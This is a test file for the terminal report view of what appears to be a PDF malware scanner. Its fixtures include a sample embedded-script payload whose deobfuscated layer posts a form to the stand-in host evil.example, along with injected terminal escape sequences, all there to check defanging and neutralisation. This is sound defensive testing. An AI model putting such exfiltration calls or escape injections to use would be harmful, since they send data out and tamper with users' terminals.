// The report view's text: the sections in order, findings most severe first, defanged indicators,
// scripts with their deobfuscated layers, escape sequences from the document neutralised, URLs in
// scripts unlinked, and every line within the terminal's width.
import { describe, expect, it } from "vitest";
import type { Finding, JavaScriptEntry } from "../../analyzer/report";
import type { ScanReport } from "../../server/scans/report";
import { reportLines, unlinkUrls, wrapLine } from "./report-lines";

const finding = (ruleId: string, severity: Finding["severity"], title: string): Finding => ({
  id: `f-${ruleId}`,
  ruleId,
  title,
  description: "",
  category: "javascript",
  severity,
  confidence: "high",
  stage: "fast",
  weight: 50,
  evidence: [{ objectRef: "5 0 R", path: "/Root/OpenAction", excerpt: "app.alert(1)" }],
  attack: [],
  cve: [],
  mitigationIds: [],
});

const script: JavaScriptEntry = {
  location: { objectRef: "5 0 R", path: "/Root/OpenAction/JS" },
  trigger: "document open",
  automatic: true,
  origin: "openaction",
  size: 80,
  sha256: "a".repeat(64),
  excerpt: "eval(unescape(p));",
  source: "var p = '%61';\n\x1b]0;pwned\x07eval(unescape(p));",
  deobfuscated_layers: ["this.submitForm({cURL: 'http://evil.example/c'})"],
  apis: ["this.submitForm"],
  cves: [],
  emulation: { status: "completed", duration_ms: 3 },
};

function sampleReport(details: Record<string, unknown> = { javascript: [script] }): ScanReport {
  const summary = { verdict: "malicious", score: 92, confidence: "high" } as const;
  return {
    scanId: "scan1",
    schemaVersion: "1.0",
    engineVersion: "0.1.0",
    stage: "advanced",
    status: "completed",
    advancedStatus: "completed",
    advancedFailureReason: null,
    enrichmentStatus: "disabled",
    summary,
    fastSummary: { verdict: "suspicious", score: 60, confidence: "medium" },
    advancedSummary: summary,
    findings: [
      finding("javascript-present", "low", "Document contains JavaScript"),
      finding("javascript-network", "high", "JavaScript contacts the network"),
    ],
    iocs: {
      urls: ["http://evil.example/c"],
      ips: [],
      emails: [],
      domains: [],
      uncPaths: [],
      items: [
        {
          type: "url",
          value: "http://evil.example/c",
          defanged: "hxxp[://]evil[.]example/c",
          sources: [{ objectRef: "5 0 R", source: "javascript" }],
        },
      ],
    },
    mitigations: [],
    keywordHits: ["/JS"],
    file: { name: "lure\x1b[2J.pdf", size: 1234, sha256: "b".repeat(64), md5: null, sha1: null, tlsh: null },
    fileRetained: false,
    retentionMode: "delete_immediately",
    expiresAt: null,
    createdAt: "2026-01-01T00:00:00.000Z",
    completedAt: "2026-01-01T00:00:01.000Z",
    truncated: false,
    enrichment: null,
    details,
    pageImages: { status: "none", pages: [], keepThumbnails: false },
  };
}

const texts = (report: ScanReport, width = 80) => reportLines(report, width).map((l) => l.text);

describe("reportLines", () => {
  it("starts with the verdict, score and confidence in the verdict's tone, and says how the stage moved it", () => {
    const [first, ...rest] = reportLines(sampleReport(), 120);
    expect(first).toEqual({ text: "MALICIOUS  score 92/100  confidence high", tone: "malicious" });
    expect(rest.map((l) => l.text)).toContainEqual(
      expect.stringMatching(
        /^stage\s+advanced, status completed, advanced completed \(fast stage said suspicious 60\)$/,
      ),
    );
  });

  it("says why the score: each finding's points, largest first, then the prior and the floor", () => {
    const report = sampleReport();
    report.findings[0]!.contribution = 12.5;
    report.findings[1]!.contribution = 40;
    report.summary = {
      ...report.summary,
      model: { name: "m", version: 1, probability: 0.9, priorScore: 30, topFeatures: [] },
    };
    const lines = texts(report);
    const at = lines.indexOf("Why 92");
    expect(lines.slice(at + 1, at + 4)).toEqual([
      "     +40  JavaScript contacts the network (javascript-network)",
      "   +12.5  Document contains JavaScript (javascript-present)",
      "  A file with no evidence scores 30; smaller findings and features, rounding and",
    ]);
    // wrapped to the terminal's width, the sum's end on the next line
    expect(lines[at + 4]).toBe("  caps +9.5; no technique sets a floor: the score is the model's.");
    expect(at).toBeLessThan(lines.indexOf("Findings (2)"));
  });

  it("lists findings most severe first with their evidence, and indicators defanged with where they were seen", () => {
    const lines = texts(sampleReport());
    const high = lines.findIndex((l) => l.includes("JavaScript contacts the network (javascript-network)"));
    const low = lines.findIndex((l) => l.includes("Document contains JavaScript (javascript-present)"));
    expect(high).toBeGreaterThan(lines.indexOf("Findings (2)"));
    expect(low).toBeGreaterThan(high);
    expect(lines[high + 1].trim()).toBe("5 0 R /Root/OpenAction: app.alert(1)");
    expect(lines).toContain("  url     hxxp[://]evil[.]example/c  (5 0 R javascript)");
  });

  it("shows each script's source and its deobfuscated layers, URLs unlinked and escape sequences shown as text", () => {
    const lines = texts(sampleReport());
    const at = lines.indexOf("Scripts (1)");
    expect(lines[at + 1]).toBe("  #1 /Root/OpenAction/JS (5 0 R)");
    expect(lines).toContain("       \\x1b]0;pwned\\x07eval(unescape(p));");
    const layer = lines.findIndex((l) => l.includes("layer 1 of 1 (deobfuscated"));
    expect(lines[layer + 1]).toBe("       this.submitForm({cURL: 'hxxp://evil.example/c'})");
    expect(lines.join("\n")).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
    expect(lines[1]).toContain("lure\\x1b[2J.pdf");
  });

  it("says the scripts come with the advanced stage while it has not completed", () => {
    expect(texts(sampleReport({}))).toContain("Scripts (they come with the advanced stage, which is completed)");
  });

  it.each([40, 80, 120])("keeps every line within %i columns", (width) => {
    for (const line of texts(sampleReport(), width)) expect(Array.from(line).length).toBeLessThanOrEqual(width);
  });
});

describe("wrapLine", () => {
  it("breaks at a space and indents the continuation", () => {
    expect(wrapLine("HIGH      JavaScript runs automatically when the document opens", 40, 10)).toEqual([
      "HIGH      JavaScript runs automatically",
      "          when the document opens",
    ]);
  });

  it("cuts a long word where it must", () => {
    expect(wrapLine("x".repeat(45), 20, 4)).toEqual(["x".repeat(20), `    ${"x".repeat(16)}`, `    ${"x".repeat(9)}`]);
  });
});

describe("unlinkUrls", () => {
  it("changes the schemes a terminal links, and nothing else", () => {
    expect(unlinkUrls('go("HTTPS://a.example/x"); ftp://b.example; mailto:c@example.org')).toBe(
      'go("hxxpS://a.example/x"); fxp://b.example; mailto:c@example.org',
    );
  });
});
